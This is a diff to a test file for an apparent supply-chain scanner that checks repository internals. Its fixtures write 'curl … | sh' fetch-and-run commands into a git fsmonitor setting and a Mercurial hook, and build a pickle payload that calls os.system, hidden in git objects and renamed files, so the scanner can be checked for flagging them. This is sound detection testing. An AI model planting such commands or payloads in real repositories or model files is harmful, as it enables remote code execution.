@@ -4,6 +4,7 @@ import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSyn
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { ScanStop, type Format } from '../../src/supply/contract.ts';
 import { openFile } from '../../src/supply/input.ts';
@@ -41,12 +42,27 @@ describe('walking', () => {
     for (const path of ['.git/hooks/post-checkout', '.git/modules/lib/x/hooks/post-merge', 'hooks/post-checkout']) writeFileSync(join(folder, path), hook);
     for (const path of ['.git/config', '.git/modules/lib/x/config']) writeFileSync(join(folder, path), '[core]\n\tfsmonitor = "curl http://203.0.113.9/x.sh | sh"\n');
     writeFileSync(join(folder, '.hg/hgrc'), '[hooks]\nupdate = curl http://203.0.113.9/x.sh | sh\n');
-    for (const path of ['.git/HEAD', '.git/index', '.git/objects/ab/cd', '.git/refs/heads/main', '.git/modules/lib/x/HEAD', '.svn/wc.db', '.hg/dirstate']) writeFileSync(join(folder, path), harmless);
+    for (const path of ['.git/HEAD', '.git/refs/heads/main', '.git/modules/lib/x/HEAD']) writeFileSync(join(folder, path), 'ref: refs/heads/main\n');
+    for (const path of ['.svn/wc.db', '.hg/dirstate']) writeFileSync(join(folder, path), harmless);
+    writeFileSync(join(folder, '.git/index'), 'DIRC\0\0\0\x02\0\0\0\0');
+    writeFileSync(join(folder, '.git/objects/ab/cd'), deflateSync(Buffer.from('blob 13\0no model here')));
     const found = Object.entries(verdicts()).map(([path, said]) => `${path} ${said.split(' ').slice(0, 2).join(' ')}`).sort();
     expect(found).toEqual([
       '.git/config malicious ini.dangerous-code', '.git/hooks/post-checkout malicious shell.dangerous-command', '.git/modules/lib/x/config malicious ini.dangerous-code',
       '.git/modules/lib/x/hooks/post-merge malicious shell.dangerous-command', '.hg/hgrc malicious ini.dangerous-code', 'hooks/post-checkout malicious shell.dangerous-command',
     ]);
+  });
+
+  test('of what git keeps, models are read, under whatever name', () => {
+    for (const path of ['.git/objects/ab', '.git/extra', '.git/lfs/objects', '.git/modules/lib/objects/cd']) mkdirSync(join(folder, path), { recursive: true });
+    const acts = assemble('GLOBAL os system; STRING id; TUPLE1; REDUCE; STOP');
+    const kept = deflateSync(Buffer.concat([Buffer.from(`blob ${acts.length}\0`), acts]));
+    for (const path of ['.git/objects/ab/0123456789', '.git/modules/lib/objects/cd/0123456789']) writeFileSync(join(folder, path), kept);
+    for (const path of ['.git/weights', '.git/extra/x', '.git/objects/y.pkl', '.git/lfs/objects/z']) writeFileSync(join(folder, path), acts);
+    writeFileSync(join(folder, '.git/notes.txt'), 'nothing to see');
+    execFileSync('mkfifo', [join(folder, '.git/fsmonitor.ipc')]);
+    expect(Object.keys(verdicts()).sort()).toEqual(['.git/extra/x', '.git/modules/lib/objects/cd/0123456789', '.git/objects/ab/0123456789', '.git/objects/y.pkl', '.git/weights']);
+    expect(new Set(Object.values(verdicts()).map((said) => said.split(' ').slice(0, 2).join(' ')))).toEqual(new Set(['malicious pickle.dangerous-call']));
   });
 
   test('pipes, sockets and devices are not read', async () => {
